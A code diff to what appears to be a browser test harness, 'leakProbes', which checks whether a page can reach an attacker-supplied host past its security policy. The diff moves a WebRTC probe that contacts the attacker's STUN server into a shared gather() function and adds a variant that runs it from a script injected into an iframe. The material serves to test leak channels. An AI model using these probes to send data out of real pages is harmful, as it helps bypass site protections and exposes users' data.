@@ -100,16 +100,11 @@ globalThis.leakProbes = (attacker) => {
       anchor.click();
       return rendered();
     },
-    webrtc: async () => {
-      const connection = new RTCPeerConnection({ iceServers: [{ urls: attacker.stunUrl }] });
-      const gathered = new Promise((resolve) => {
-        connection.onicecandidate = ({ candidate }) => candidate ?? resolve();
-      });
-      connection.createDataChannel("way out");
-      await connection.setLocalDescription(await connection.createOffer());
-      await gathered;
-      connection.close();
-    },
+    webrtc: () => gather(attacker.stunUrl),
+    "webrtc-in-a-frame": () =>
+      settle(make("iframe", { srcdoc: `<script>(${gather})("${attacker.stunUrl}")</script>` })).then(
+        rendered,
+      ),
   };
 
   /** A worker whose file the page's own origin serves, told what to fetch. */
@@ -117,3 +112,14 @@ globalThis.leakProbes = (attacker) => {
     return start(`worker.js?${new URLSearchParams({ fetch: url(probe) })}`);
   }
 };
+
+/** Looks for ways through a network, which sends UDP packets that no policy of a page is about. */
+async function gather(stunUrl) {
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: stunUrl }] });
+  const gathered = new Promise((resolve) => {
+    connection.onicecandidate = ({ candidate }) => candidate ?? resolve();
+  });
+  connection.createDataChannel("way out");
+  await connection.setLocalDescription(await connection.createOffer());
+  await gathered;
+}
